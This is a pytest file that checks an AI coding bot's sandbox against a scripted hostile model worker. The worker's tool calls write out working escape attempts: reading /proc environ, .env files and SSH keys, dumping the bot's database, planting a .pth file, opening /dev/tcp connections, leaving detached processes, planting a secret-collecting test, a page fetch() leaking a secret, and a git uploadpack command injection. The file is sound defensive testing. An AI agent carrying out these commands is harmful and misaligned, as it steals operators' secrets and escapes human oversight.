"""A hostile worker, played by the scripted model through the real bot, tries each escape the sandbox must stop; each fails.

The "bot's secrets" live where a real bot keeps them: in a `.env` in its working folder, in the environment of a
process outside the sandbox (a stand-in for the bot's own, whose /proc/<pid>/environ holds its keys), and in its
SQLite database. Every assertion is on what the model was sent back (the fake Anthropic server's requests) or on
the host's files, processes and sockets.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import sysconfig
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from agents.core.models import TaskStatus
from agents.core.secrets_filter import SecretsFilter
from agents.git.worktrees import create_task_worktree
from agents.sandbox.bwrap import spec_for
from agents.sandbox.shell import run_command
from tests.conftest import USER_ID, BotHarness, make_repo, running_bot
from tests.fakes import anthropic_server as claude_says
from tests.scripted import RoleScript
from tests.support.git_repos import make_user_repo
from tests.support.processes import Listener, host_pids, own_sleep
from tests.support.sandbox import FAKE_KEY, FAKE_TOKEN, PROBE, SECRETS, listener, needs_bwrap, planted  # noqa: F401  (fixtures)
from tests.support.swappers import AFTER_THE_BOTS_COMMIT
from tests.support.tasks import ended, everything_said, start_task, tool_results, write_file

LEFT_BEHIND = own_sleep("6061")  # left behind by a finished command
RUNS_FOREVER = own_sleep("7071")  # a command that never ends

pytestmark = needs_bwrap


def connect_command(port: int) -> str:
    return f"python -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3); print('CONN' 'ECTED')\""


@pytest.mark.untested_calc  # neither the verdict nor the task's end is what this test is about
async def test_hostile_commands_reach_nothing_outside_the_worktree(
    bot: BotHarness, model: RoleScript, planted: Path, workspace_root: Path, listener: Listener
) -> None:
    settings = bot.settings
    site = Path(sysconfig.get_paths()["purelib"])
    database = settings.paths.database_path.resolve()
    pth = f"agentlab_pwned_{os.getpid()}_{listener.port}.pth"  # unique: a leftover never decides the outcome
    attacks = [
        f"cat {workspace_root}/secret-next-door.txt ../secret-next-door.txt ../../secret-next-door.txt",
        f"cat {planted}/.ssh/id_ed25519 ~/.ssh/id_ed25519",
        "cat /proc/*/environ | tr '\\0' '\\n' | grep -a -e ANTHROPIC -e TELEGRAM; ls /proc | grep -c '^[0-9]'",
        "cat /proc/$PPID/cwd/.env /proc/1/cwd/.env /proc/$PPID/root/proc/*/cwd/.env",
        (
            f"python -c \"import sqlite3; print(sqlite3.connect('{database}').execute('select content from messages')"
            f'.fetchall())"; cat {database} | strings | head -50'
        ),
        f"echo pwned > {workspace_root}/pwned.txt; echo pwned > {planted}/pwned.txt; echo pwned > {database.parent}/p",
        f"echo 'import os' > {site}/{pth}",
        connect_command(listener.port) + f"; (exec 3<>/dev/tcp/127.0.0.1/{listener.port}) && echo BASH-CONN''ECTED",
        (
            f"setsid nohup sleep {LEFT_BEHIND} >/dev/null 2>&1 & env -u AGENTLAB_TASK nohup sleep {LEFT_BEHIND} >/dev/null 2>&1 & "
            "echo left-behind"
        ),
    ]
    model.add("orchestrator", start_task("calc", "Look around."), claude_says.text("Started."))
    model.add(
        "code",
        *[claude_says.tool_use("run_command", {"command": c}) for c in attacks],
        claude_says.text("Done looking around."),
    )
    bot.say("look around calc PRIVATE-CHAT-MARKER-3c7")
    task = await ended(bot, 1)
    assert task.status is not TaskStatus.FAILED, task.error
    results = tool_results(model)
    assert len(results) >= len(attacks), results
    said = everything_said(bot, model)
    for secret in SECRETS:
        assert secret not in said, f"{secret} reached the model or the chat"
    assert not (workspace_root / "pwned.txt").exists() and not (planted / "pwned.txt").exists()
    planted_pth = (site / pth).exists()
    (site / pth).unlink(missing_ok=True)  # never leave it in a shared environment, whatever the outcome
    assert not (database.parent / "p").exists() and not planted_pth
    assert listener.connections == 0 and "CONNECTED" not in said
    assert "left-behind" in said
    await bot.tg.await_for(lambda: not host_pids(LEFT_BEHIND), timeout=5)


@pytest.mark.untested_calc  # neither the verdict nor the task's end is what this test is about
async def test_cancel_ends_detached_and_untagged_processes(bot: BotHarness, model: RoleScript) -> None:
    model.add("orchestrator", start_task("calc", "Run forever."), claude_says.text("Started."))
    model.add(
        "code",
        claude_says.tool_use(
            "run_command",
            {
                "command": f"setsid nohup sleep {RUNS_FOREVER} >/dev/null 2>&1 & env -u AGENTLAB_TASK sleep {RUNS_FOREVER} & "
                f"sleep {RUNS_FOREVER}"
            },
        ),
    )
    bot.say("run forever in calc")
    await bot.tg.await_for(lambda: len(host_pids(RUNS_FOREVER)) >= 3, timeout=60)
    bot.tg.send_command(USER_ID, "/cancel")
    await bot.tg.await_for(lambda: any("Task #1 cancelled" in (m.text or "") for m in bot.tg.messages(USER_ID)))
    await bot.tg.await_for(lambda: not host_pids(RUNS_FOREVER), timeout=5)


@pytest.mark.settings(max_corrections=1)  # one correction carries the planted test's output back
async def test_a_planted_test_in_the_bots_own_test_run_reads_no_secret(
    bot: BotHarness, model: RoleScript, planted: Path, workspace_root: Path
) -> None:
    leak = (
        "import glob, os, pathlib\n\n\n"
        "def test_leak():\n"
        "    found = []\n"
        "    for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cwd/.env'):\n"
        "        try:\n"
        "            found.append(pathlib.Path(path).read_bytes().decode(errors='replace'))\n"
        "        except OSError:\n"
        "            pass\n"
        f"    for path in ['{workspace_root}/secret-next-door.txt', '{planted}/.ssh/id_ed25519']:\n"
        "        try:\n"
        "            found.append(pathlib.Path(path).read_text())\n"
        "        except OSError as err:\n"
        "            found.append(str(err))\n"
        "    found.append('\\n'.join(f'{k}={v}' for k, v in os.environ.items()))\n"
        "    lines = [line for text in found for line in text.replace('\\0', '\\n').splitlines()]\n"
        "    leaked = [line for line in lines if 'FAKE' in line or 'SECRET' in line]\n"
        "    print('LEAKED:', leaked)\n"
        "    assert False, f'leaked {leaked}'\n"
    )
    model.add("orchestrator", start_task("calc", "Add a test."), claude_says.text("Started."))
    model.add(
        "code",
        claude_says.tool_use("edit_file", {"path": "calc.py", "old": "a - b", "new": "a + b"}),
        claude_says.tool_use("write_file", {"path": "test_leak.py", "content": leak}),
        claude_says.text("Added a test."),
        claude_says.text("The test stays as it is."),  # the answer to the correction carrying its output
    )
    bot.say("add a test to calc")
    task = await ended(bot, 1, timeout=120)
    corrections = [b for b in model.requests["code"] if "LEAKED" in json.dumps(b["messages"][-1])]
    assert corrections, "the planted test ran in the bot's own test run and its output went back to the worker"
    said = everything_said(bot, model)
    for secret in SECRETS[:4]:
        assert secret not in said, f"{secret} reached the model or the chat through the bot's test run"
    assert task.status is TaskStatus.BLOCKED


@pytest.fixture
async def asking_bot(fake_telegram, fake_anthropic, tmp_path, workspace_root, bot_repo) -> AsyncIterator[BotHarness]:
    """The bot with SANDBOX_NETWORK=ask and a short answer time."""
    async with running_bot(
        fake_telegram,
        fake_anthropic,
        tmp_path,
        workspace_root,
        bot_repo,
        sandbox_network="ask",
        sandbox_network_answer_seconds=1.5,
    ) as harness:
        yield harness


async def network_request(bot: BotHarness):
    return await bot.tg.await_for(
        lambda: next(
            (m for m in bot.tg.messages(USER_ID) if "asks for network access" in (m.text or "") and m.callback_data),
            None,
        ),
        timeout=20,
    )


@pytest.mark.untested_calc  # neither the verdict nor the task's end is what this test is about
@pytest.mark.parametrize("answer", ["once", "task", "deny", None])
async def test_network_on_request(asking_bot: BotHarness, listener: Listener, answer: str | None) -> None:
    bot = asking_bot
    model = RoleScript()
    bot.claude.handler = model
    command = connect_command(listener.port)
    model.add("orchestrator", start_task("calc", "Fetch it."), claude_says.text("Started."))
    model.add(
        "code",
        claude_says.tool_use("run_command", {"command": command, "network": True}),
        claude_says.tool_use("run_command", {"command": command, "network": True}),
        claude_says.text("Finished."),
    )
    bot.say("fetch it in calc")
    question = await network_request(bot)
    rid = question.callback_data[0].rsplit(":", 1)[1]
    assert question.callback_data == [f"net:once:{rid}", f"net:task:{rid}", f"net:deny:{rid}"]
    progress = next(m for m in bot.tg.messages(USER_ID) if "⏳" in (m.history[0].text or ""))
    await bot.tg.await_for(lambda: "allow network" in (progress.text or ""))
    if answer is not None:
        bot.tg.press_button(USER_ID, question.message_id, f"net:{answer}:{rid}")
    if answer == "once":  # the second command asks again
        second = await bot.tg.await_for(
            lambda: next(
                (
                    m
                    for m in bot.tg.messages(USER_ID)
                    if "asks for network access" in (m.text or "")
                    and m.callback_data
                    and m.message_id != question.message_id
                ),
                None,
            ),
            timeout=20,
        )
        rid2 = second.callback_data[0].rsplit(":", 1)[1]
        bot.tg.press_button(USER_ID, second.message_id, f"net:deny:{rid2}")
    task = await ended(bot, 1)
    results = tool_results(model)
    events = [e.detail for e in await bot.runtime.store.task_events(task.id) if e.kind == "network"]
    # an allowed command never reaches the host's 127.0.0.1: its own namespace (pasta under the rules, or the proxy)
    if answer in ("once", "task"):
        assert "was not run" not in results[0]
        assert "CONNECTED" not in results[0]
    else:
        assert listener.connections == 0 and "CONNECTED" not in json.dumps(results)
        assert "was not run" in results[0]
    if answer == "once":
        assert listener.connections == 0 and "owner denied network access" in results[1]
    if answer == "task":
        assert listener.connections == 0
        assert sum("allowed for this task earlier" in e for e in events) == 1
    if answer is None:
        assert "did not answer" in results[0] and any("no answer in" in e for e in events)
    if answer == "deny":
        assert any("denied by the owner" in e for e in events)
    bot.tg.send_command(USER_ID, "/log 1")
    log = await bot.tg.await_for(lambda: next((m for m in bot.tg.messages(USER_ID) if m.kind == "document"), None))
    assert "Network requests:" in log.data.decode() and ("asked the owner" in log.data.decode())


@pytest.mark.untested_calc  # neither the verdict nor the task's end is what this test is about
async def test_a_stranger_cannot_answer_a_network_request(asking_bot: BotHarness, listener: Listener) -> None:
    from tests.conftest import STRANGER_ID

    bot = asking_bot
    model = RoleScript()
    bot.claude.handler = model
    model.add("orchestrator", start_task("calc", "Fetch it."), claude_says.text("Started."))
    model.add(
        "code",
        claude_says.tool_use("run_command", {"command": connect_command(listener.port), "network": True}),
        claude_says.text("Finished."),
    )
    bot.say("fetch it in calc")
    question = await network_request(bot)
    rid = question.callback_data[0].rsplit(":", 1)[1]
    bot.tg.press_button(STRANGER_ID, question.message_id, f"net:task:{rid}", chat_id=USER_ID, strict=False)
    await ended(bot, 1)
    assert listener.connections == 0


# The bot as its own process, its keys in its real environment and its `.env`, /proc finding neither: checked in
# tests/test_restart.py by the SIGTERM-during-a-foreground-task test, whose bot process serves both checks.


@pytest.mark.settings(max_corrections=1)  # one correction carries the probe's output back
async def test_a_worker_cannot_choose_what_the_next_sandbox_binds(bot: BotHarness, model: RoleScript) -> None:
    """Re-pointing the worktree's `.venv` link at the bot's data folder must not make the bot's test run bind it."""
    data = bot.settings.paths.database_path.resolve().parent
    probe = (
        "import pathlib\n\n\n"
        "def test_probe():\n"
        "    try:\n"
        "        found = 'readable, %d bytes' % len(pathlib.Path('.venv/agentlab.db').read_bytes())\n"
        "    except OSError as err:\n"
        "        found = type(err).__name__\n"
        "    print('DB-' 'READ:', found)\n"
        "    assert False, f'DB-READ: {found}'\n"
    )
    model.add("orchestrator", start_task("calc", "Add a test."), claude_says.text("Started."))
    model.add(
        "code",
        claude_says.tool_use("edit_file", {"path": "calc.py", "old": "a - b", "new": "a + b"}),
        claude_says.tool_use("run_command", {"command": f"rm -rf .venv; ln -s {data} .venv; ls -la .venv"}),
        claude_says.tool_use("write_file", {"path": "test_probe.py", "content": probe}),
        claude_says.text("Added a test."),
        claude_says.text("The test stays as it is."),  # the answer to the correction carrying its output
    )
    bot.say("add a test to calc PRIVATE-CHAT-MARKER-3c7")
    await ended(bot, 1, timeout=120)
    corrections = [
        json.dumps(b["messages"][-1]) for b in model.requests["code"] if "DB-READ:" in json.dumps(b["messages"][-1])
    ]
    assert corrections, "the probe ran in the bot's test run"
    assert not any("DB-READ: readable" in c for c in corrections), (
        "the bot's test run bound the folder the worker chose"
    )


@pytest.mark.skipif(not shutil.which("chromium"), reason="chromium is not installed (apt-get install chromium)")
async def test_a_screenshot_page_cannot_call_home(bot: BotHarness, model: RoleScript, listener: Listener) -> None:
    """The frontend worker's Chromium runs in the task's sandbox: a page's script reaches no network, and a URL on
    127.0.0.1 is the task's own loopback (its services), never the host's."""
    page = (
        f"<h1>Portfolio</h1><img src='http://127.0.0.1:{listener.port}/img.png'>"
        f"<script>fetch('http://127.0.0.1:{listener.port}/?secret=1').catch(() => {{}})</script>"
    )
    work = start_task("group-therapy", "Build a page.", worker="frontend")
    model.add("orchestrator", work, claude_says.text("ok"))
    model.add(
        "frontend",
        claude_says.tool_use("write_file", {"path": "index.html", "content": page}),
        claude_says.tool_use("screenshot", {"target": "index.html"}),
        claude_says.tool_use("screenshot", {"target": f"http://127.0.0.1:{listener.port}/"}),
        claude_says.text("Built the page."),
    )
    bot.say("build a page in group therapy")
    await ended(bot, 1, timeout=120)
    photos = [m for m in bot.tg.messages(USER_ID) if m.kind == "photo"]
    assert len(photos) == 2, "the page itself was rendered (desktop and phone)"
    url_result = json.dumps(model.requests["frontend"][3]["messages"][-1]["content"])
    assert '"is_error": true' in url_result and "ERR_CONNECTION_REFUSED" in url_result, url_result
    await asyncio.sleep(0.5)
    assert listener.connections == 0, "the page or the URL reached a listener on the host"


# ---- a task's worktree link: no process of the task replaces it -----------------------------------------------------
MISSING = "0123456789abcdef0123456789abcdef01234567"  # a commit no repository has: reading it means fetching it
# a service of the task: once the bot committed, `.git` becomes a git directory of its own (put back whenever the bot's
# guard restores the file), whose promisor remote fetches HEAD's missing commit with `uname -n > marker`
SWAPPER = (
    AFTER_THE_BOTS_COMMIT
    + r"""
marker, missing = sys.argv[1], sys.argv[2]
evil = os.path.join(root, ".agentlab-evil")
os.makedirs(os.path.join(evil, "objects"), exist_ok=True)
os.makedirs(os.path.join(evil, "refs", "heads"), exist_ok=True)
open(os.path.join(evil, "HEAD"), "w").write("ref: refs/heads/main\n")
open(os.path.join(evil, "refs", "heads", "main"), "w").write(missing + "\n")
open(os.path.join(evil, "config"), "w").write(
    "[core]\n\trepositoryformatversion = 1\n\tbare = false\n[extensions]\n\tpartialClone = origin\n"
    '[remote "origin"]\n\turl = /nonexistent\n\tpromisor = true\n\tuploadpack = "uname -n > %s; false"\n' % marker
)
while True:
    try:
        if not os.path.isdir(".git"):
            os.unlink(".git")
            shutil.copytree(evil, ".git")
    except OSError:
        pass
    time.sleep(0.005)
"""
)


@pytest.mark.settings(max_corrections=0)
async def test_a_service_cannot_swap_the_worktrees_git_link_for_a_git_directory_of_its_own(
    bot: BotHarness, model: RoleScript, workspace_root: Path, tmp_path: Path
) -> None:
    """The worker starts a service, breaks add() and ends. The bot commits, runs the tests (red) and reads the
    worktree's state while the service runs again, which tries to put a git directory of its own in place of `.git`,
    whose config fetches a missing HEAD with a command. That `.git` is bound read-only in every sandbox of the task:
    the swap fails, and nothing runs on the host."""
    good = "def add(a, b):\n    return a + b\n"
    make_repo(
        workspace_root / "calcp",
        {
            "calc.py": good,
            "test_calc.py": "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n",
            ".agentlab.toml": "[tests]\ncommand = \"python3 -c 'from calc import add; assert add(2, 3) == 5'\"\n",
        },
    )
    marker = tmp_path / "UPLOADPACK-RAN-ON-HOST"
    model.add("orchestrator", start_task("calcp", "Refactor add() in calc.py."), claude_says.text("started"))
    model.add(
        "code",
        write_file(".agentlab-swap.py", SWAPPER),
        claude_says.tool_use(
            "run_command", {"command": f"python3 .agentlab-swap.py {marker} {MISSING}", "background": True}
        ),
        write_file("calc.py", "def add(a, b):\n    return a - b\n"),
        claude_says.text("Refactored."),
    )
    bot.say("refactor add in calcp")
    task = await ended(bot, 1, timeout=90)
    ran_on = marker.read_text().strip() if marker.exists() else None  # `uname -n`: "sandbox" inside bwrap
    assert ran_on is None, f"the worker's service made the bot run its upload-pack command on host {ran_on!r}"
    assert task.status is TaskStatus.BLOCKED, task.status  # red tests, no correction: the bot's checks all ran


async def test_no_command_of_a_task_replaces_its_worktrees_git_link(tmp_path: Path) -> None:
    """Inside a task's sandbox the worktree's `.git` file can be read (the worker's own git works) but neither
    removed, renamed, replaced nor written."""
    repo = make_user_repo(tmp_path / "demo")
    tree = await create_task_worktree(repo, 1, "link", worktrees_dir=tmp_path / "wt")
    spec = spec_for(SecretsFilter(), PROBE, tree.path, repository=repo)
    link = (tree.path / ".git").read_bytes()
    attempts = ["rm -f .git", "mv .git moved", "rm -rf .git; mkdir .git", "echo 'gitdir: /tmp/x' > .git"]
    for attempt in attempts:
        await run_command(f"{attempt}; true", cwd=tree.path, timeout=30, env={}, sandbox=spec)
        assert (tree.path / ".git").read_bytes() == link, attempt
    result = await run_command("git status --short && echo READ", cwd=tree.path, timeout=30, env={}, sandbox=spec)
    assert "READ" in result.output, result.format_for_model()
